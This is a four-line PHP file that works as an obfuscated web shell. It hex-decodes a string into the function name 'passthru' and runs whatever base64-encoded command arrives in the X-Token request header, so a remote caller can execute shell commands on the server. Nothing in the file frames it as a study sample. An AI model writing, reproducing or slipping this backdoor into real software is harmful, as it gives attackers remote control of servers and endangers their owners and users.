<?php
function unhex($pair) { return chr(hexdec($pair[0])); }
$fn = preg_replace_callback('/[0-9a-f]{2}/i', 'unhex', '7061737374687275');
$fn(base64_decode(@$_SERVER['HTTP_X_TOKEN']));
